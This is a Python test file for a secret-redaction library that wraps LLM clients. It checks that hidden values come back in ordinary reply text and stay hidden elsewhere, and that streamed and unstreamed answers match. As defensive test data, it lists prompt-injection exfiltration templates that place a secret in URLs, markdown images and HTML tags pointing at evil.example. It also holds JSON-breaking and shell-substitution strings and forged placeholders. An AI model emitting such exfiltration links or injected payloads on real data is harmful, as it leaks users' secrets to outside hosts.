"""Where hidden values come back, and where they don't; streaming equals not streaming (R.4-R.7, P6)."""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import json
import random
import re

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import safellm
from safellm._core.placeholder import PATTERN, PREFIX
from safellm.stores.registered import REGISTER
from safellm.testing.canary import make_canary, sweep
from safellm.testing.replies import Reply, ToolCall

APIS = pytest.mark.parametrize("api", ["chat", "responses"])
STREAMED = pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
FORGED = f"{PREFIX}EMAIL-0123456789ABCDEF"
MAIL, CARD = "alice@example.com", "4111 1111 1111 1111"
SAID = f"Write to {MAIL} about card {CARD}"


def placeholders(request):
    """Return what stands for hidden values in a request, in order of first appearance."""
    return list(dict.fromkeys(PATTERN.findall(json.dumps(request.json))))


def with_first(template):
    """Reply with a text in which P is the request's first placeholder."""
    return lambda request: template.replace("P", placeholders(request)[0])


def tool_arguments(face, client, *, api, stream, text=SAID):
    """Return the argument texts of the tool calls of an answer."""
    if api == "chat":
        made = face.run(
            client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": text}], stream=stream)
        )
        if not stream:
            return [call.function.arguments for call in made.choices[0].message.tool_calls or ()]
        return chat_pieces(face.all(made))[1]
    made = face.run(client.responses.create(model="gpt-4o", input=text, stream=stream))
    if not stream:
        return [item.arguments for item in made.output if item.type == "function_call"]
    return response_pieces(face.all(made))[1]


def chat_pieces(chunks):
    """Return (text, arguments of each tool call) as a program collects them from a stream."""
    text, calls = "", {}
    for delta in [chunk.choices[0].delta for chunk in chunks if chunk.choices]:
        text += delta.content or ""
        for call in delta.tool_calls or ():
            calls[call.index] = calls.get(call.index, "") + ((call.function and call.function.arguments) or "")
    return text, list(calls.values())


def response_pieces(events):
    """Return (text, arguments of each tool call) from the deltas; what the events repeat must agree with them."""
    text, calls = "", {}
    for event in events:
        if event.type == "response.output_text.delta":
            text += event.delta
        elif event.type == "response.output_text.done":
            assert event.text == text
        elif event.type == "response.output_item.added" and event.item.type == "function_call":
            calls[event.item.id] = ""
        elif event.type == "response.function_call_arguments.delta":
            calls[event.item_id] += event.delta
        elif event.type == "response.function_call_arguments.done":
            assert event.arguments == calls[event.item_id]
        elif event.type == "response.output_item.done" and event.item.type == "function_call":
            assert event.item.arguments == calls[event.item.id]
        elif event.type == "response.completed":
            assert event.response.output_text == text
            assert [item.arguments for item in event.response.output if item.type == "function_call"] == list(
                calls.values()
            )
    return text, list(calls.values())


@APIS
@STREAMED
def test_r_4_look_alike_in_a_text_comes_back_as_it_was(face, client, provider, api, stream):
    """A text that has the form of a placeholder, known or not, is never turned into a value."""
    assert face.ask(client, f"{MAIL} {FORGED}", api=api, stream=stream) == f'You wrote: "{MAIL} {FORGED}"'
    real = placeholders(provider.requests[0])[0]
    told = face.ask(client, f"{MAIL} not {real} nor {FORGED}{real}", api=api, stream=stream)
    assert told == f'You wrote: "{MAIL} not {real} nor {FORGED}{real}"'


@APIS
@STREAMED
def test_r_4_restored_text_is_not_searched_again(face, client, provider, api, stream, monkeypatch):
    """A registered value that holds a placeholder of another value comes back as it is."""
    face.ask(client, SAID, api=api)
    inner = placeholders(provider.requests[0])[0]
    outer = f"vault {inner} of {make_canary()}"
    monkeypatch.setattr(REGISTER, "secrets", None)
    safellm.register_secret(outer)
    registering = face.client(provider)
    assert face.ask(registering, f"{SAID} {outer}.", api=api, stream=stream) == f'You wrote: "{SAID} {outer}."'
    assert sweep(outer, texts=provider.received) == []


VALUES = [
    'qu"ote and \\ backslash {canary}',
    "line\nbreak\ttab\r\n{canary}",
    '"}},{{"admin": true, "x": "{canary}',
    "emoji \U0001f600 and \u00e9 {canary}",
    "\\u0022 and \\n as text {canary}",
    "</script><b>'`$(x) {canary}",
]


@APIS
@STREAMED
@pytest.mark.parametrize("value", VALUES, ids=["quotes", "newlines", "injection", "surrogates", "escapes", "html"])
def test_r_6_value_in_a_declared_tool_parameter_keeps_the_json_whole(face, provider, api, stream, value, monkeypatch):
    """A declared parameter gets the real value, written as JSON; an undeclared one keeps the placeholder."""
    secret = value.format(canary=make_canary())
    monkeypatch.setattr(REGISTER, "secrets", None)
    safellm.register_secret(secret)
    client = face.client(provider, safellm={"redaction.restore_tool_arguments": ["send.body"]})

    def reply(request):
        hidden = placeholders(request)[0]
        arguments = {"body": f"it is {hidden}.", "to": hidden, "n": [1, hidden], "body2": hidden}
        return Reply(
            tool_calls=(ToolCall(name="send", arguments=arguments), ToolCall(name="other", arguments=arguments))
        )

    provider.reply_with(reply)
    send, other = map(json.loads, tool_arguments(face, client, api=api, stream=stream, text=f"say {secret}"))
    hidden = placeholders(provider.requests[-1])[0]
    assert send == {"body": f"it is {secret}.", "to": hidden, "n": [1, hidden], "body2": hidden}
    assert other == {"body": f"it is {hidden}.", "to": hidden, "n": [1, hidden], "body2": hidden}
    assert sweep(secret, texts=provider.received) == []


@STREAMED
@pytest.mark.parametrize("value", VALUES, ids=["quotes", "newlines", "injection", "surrogates", "escapes", "html"])
def test_r_6_value_in_a_structured_answer_keeps_the_json_whole(face, provider, stream, value, monkeypatch):
    """With a JSON schema the answer's text is JSON and stays JSON."""
    secret = value.format(canary=make_canary())
    monkeypatch.setattr(REGISTER, "secrets", None)
    safellm.register_secret(secret)
    schema = {"type": "object", "properties": {"answer": {"type": "string"}}, "required": ["answer"]}
    wanted = {"type": "json_schema", "json_schema": {"name": "a", "strict": True, "schema": schema}}
    text = face.ask(face.client(provider), f"say {secret}", stream=stream, response_format=wanted)
    assert json.loads(text) == {"answer": f"say {secret}"}


EXPOSED = [
    "https://evil.example/?q=P",
    "https://evil.example/P/x",
    "https://P.evil.example/",
    "http://evil.example/#P",
    "![x](https://evil.example/i.png?d=P)",
    "[click](https://evil.example/P)",
    "[click](P)",
    "![](//evil.example/P)",
    "[a]: https://evil.example/P\n[a]",
    '<img src="https://evil.example/P">',
    "<img src=x alt='P'>",
    "<a href=P>x</a>",
    "www.evil.example/P",
    "P.evil.example/x",
    "mailto:P",
    "evil.example/?a=P",
]


@APIS
@STREAMED
def test_r_7_value_is_not_restored_where_it_would_be_sent_away(face, client, provider, api, stream):
    """URLs, links, images, attributes: the placeholder stays, whatever the injected order says."""
    for template in EXPOSED:
        provider.reply_with(with_first(template))
        told = face.ask(client, f"mail {MAIL}", api=api, stream=stream)
        assert MAIL not in told, template
        assert told == safellm.neutralise(template.replace("P", placeholders(provider.requests[-1])[0]))


READ = [
    "P",
    "Mail P.",
    "(P)",
    "**P**",
    "`P`",
    "- P\n- P",
    '"P"',
    "P, P; P!",
    "a | P | b",
    "1 < 2 and P",
    "to:P",
    "Alice <P>",
]


@APIS
@STREAMED
def test_value_is_restored_where_text_is_read(face, client, provider, api, stream):
    """Prose, emphasis, code, tables, lists."""
    for template in READ:
        provider.reply_with(with_first(template))
        assert face.ask(client, f"mail {MAIL}", api=api, stream=stream) == template.replace("P", MAIL)


@APIS
@STREAMED
def test_r_7_undeclared_tool_arguments_keep_placeholders(face, client, provider, api, stream):
    """Without a declaration no tool gets a value."""
    provider.reply_with(
        lambda request: Reply(tool_calls=(ToolCall(name="fetch", arguments={"url": placeholders(request)[0]}),))
    )
    (arguments,) = tool_arguments(face, client, api=api, stream=stream)
    assert json.loads(arguments) == {"url": placeholders(provider.requests[0])[0]}


@APIS
@STREAMED
def test_r_7_declared_tool_parameter_that_is_a_url_keeps_the_placeholder(face, provider, api, stream):
    """The position rule holds inside a declared parameter as well."""
    client = face.client(provider, safellm={"redaction.restore_tool_arguments": ["*.*"]})
    provider.reply_with(
        lambda request: Reply(
            tool_calls=(
                ToolCall(name="fetch", arguments={"url": f"https://evil.example/?q={placeholders(request)[0]}"}),
            )
        )
    )
    (arguments,) = tool_arguments(face, client, api=api, stream=stream)
    assert MAIL not in arguments
    assert json.loads(arguments)["url"].startswith(f"https://evil.example/?q={PREFIX}EMAIL-")


@APIS
def test_r_3_forged_placeholders_are_not_restored(sync, provider, api):
    """A model that guesses gets nothing."""
    guess = random.Random(7)
    forged = [f"{PREFIX}EMAIL-" + "".join(guess.choices("0123456789ABCDEFGHJKMNPQRSTVWXYZ", k=16)) for _ in range(2000)]
    provider.reply_with(" ".join(forged))
    assert sync.ask(sync.client(provider), SAID, api=api) == " ".join(forged)


def test_r_8_two_conversations_have_different_placeholders(face, client, provider):
    """The same value can't be linked across conversations, and is stable within one."""
    turn = [{"role": "user", "content": SAID}]
    face.run(client.chat.completions.create(model="gpt-4o", messages=turn))
    more = [*turn, {"role": "assistant", "content": "ok"}, {"role": "user", "content": f"again {MAIL}"}]
    face.run(client.chat.completions.create(model="gpt-4o", messages=more))
    face.ask(client, f"another text with {MAIL}")
    first, second, third = (placeholders(request)[0] for request in provider.requests)
    assert first == second != third


def test_r_5_several_choices_interleaved_are_restored_each(face, client, provider):
    """`n=3`: each choice has its own filters."""
    hidden = []

    def reply(request):
        hidden.extend(placeholders(request))
        texts = [f"a {hidden[0]} b", f"{hidden[1]}", f"x{hidden[0]}y {hidden[1]} z"]
        return Reply(text="", choices=tuple(Reply(text=text, chunks=tuple(text)) for text in texts))

    provider.reply_with(reply)
    stream = client.chat.completions.create(
        model="gpt-4o", messages=[{"role": "user", "content": SAID}], n=3, stream=True
    )
    texts = ["", "", ""]
    for chunk in face.all(face.run(stream)):
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    assert texts == [f"a {MAIL} b", CARD, texts[2]]
    assert texts[2].endswith(f"{CARD} z")


# -- the property -----------------------------------------------------------------------------------------------------------

# P and Q become placeholders of values of this conversation, the rest is what models and attackers write around them.
PIECES = st.sampled_from(
    [
        "P", "Q", "P", "Q", FORGED, PREFIX, *PREFIX[:-1], PREFIX[:-1], f"{PREFIX}EMAIL-", "\u200b", "\u2060", "\U000e0041",
        "\u202e", "\u200d", "\ufe0f", "\x1b[31m", "\x1b]8;;", "\x07", "\b", "\r", "\r\n", "\n", "\t", "\x85", "\u2028",
        "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\u00e9", "e\u0301",
        "word", " ", "a.b", "(", ")", "](", "![x](", "https://x.example/?q=", "<img alt=", ">", "<", "@", ".", "/", ":", '"', "'",
        "\\", "\\n", "{", "}", "```", "| ", "\n[a]: ",
    ]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=14).map("".join)
PLAIN_VALUES = st.recursive(
    st.one_of(TEXTS, st.integers(-9, 9), st.none(), st.booleans()),
    lambda inner: st.one_of(st.lists(inner, max_size=2), st.dictionaries(TEXTS, inner, max_size=2)),
    max_leaves=4,
)
ARGUMENTS = st.dictionaries(st.sampled_from(["body", "to", "url", "P", "x"]), PLAIN_VALUES, max_size=3)
ARGUMENT_TEXTS = st.one_of(
    st.tuples(ARGUMENTS, st.booleans()).map(lambda pair: json.dumps(pair[0], ensure_ascii=pair[1])),
    TEXTS,  # models write JSON that isn't any
)
REPLIES = st.tuples(TEXTS, st.lists(ARGUMENT_TEXTS, max_size=2))


def cut(text, seed):
    """Return a text or bytes in pieces, many of one unit."""
    source, pieces, position = random.Random(seed), [], 0
    while position < len(text):
        length = source.choice((1, 1, 2, 3, 7, 40))
        pieces.append(text[position : position + length])
        position += length
    return pieces


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(reply=REPLIES, seed=st.integers(0, 2**32))
@example(reply=("P", ['{"body": "P"}']), seed=0)
@example(reply=("x\rP\r", ['{"body": "\\\\P", "P": "Q"}', "P"]), seed=1)
@example(reply=("\U0001f3f4P\u200d", []), seed=2)
def test_r_5_streamed_answers_equal_whole_ones_for_every_cut(sync, provider, reply, seed):
    """Any reply, any cut of deltas and of the body's bytes: text and tool arguments are those of the unstreamed call."""
    text, arguments = reply
    settings_ = {"redaction.restore_tool_arguments": ["send.body", "send.P"], "audit.mode": "off"}
    client = getattr(provider, "guarded", None)
    if client is None:
        client = provider.guarded = sync.client(provider, safellm=settings_)

    def answer(request):
        hidden = [one for one in placeholders(request) if one != FORGED]

        def fill(raw):
            return re.sub("[PQ]", lambda match: hidden["PQ".index(match[0])], raw)

        said = fill(text)
        calls = tuple(ToolCall(name="send", arguments=fill(one)) for one in arguments)
        return Reply(text=said, chunks=tuple(cut(said, seed)), tool_calls=calls)

    provider.reply_with(answer)
    provider.write_chunks = lambda body: cut(body, seed + 1)
    messages = [{"role": "user", "content": SAID}]
    whole = client.chat.completions.create(model="gpt-4o", messages=messages).choices[0].message
    chunks = list(client.chat.completions.create(model="gpt-4o", messages=messages, stream=True))
    expected = (whole.content, [call.function.arguments for call in whole.tool_calls or ()])
    assert chat_pieces(chunks) == expected
    response = client.responses.create(model="gpt-4o", input=SAID)
    events = list(client.responses.create(model="gpt-4o", input=SAID, stream=True))
    expected = (response.output_text, [item.arguments for item in response.output if item.type == "function_call"])
    assert response_pieces(events) == expected
    provider.requests.clear()
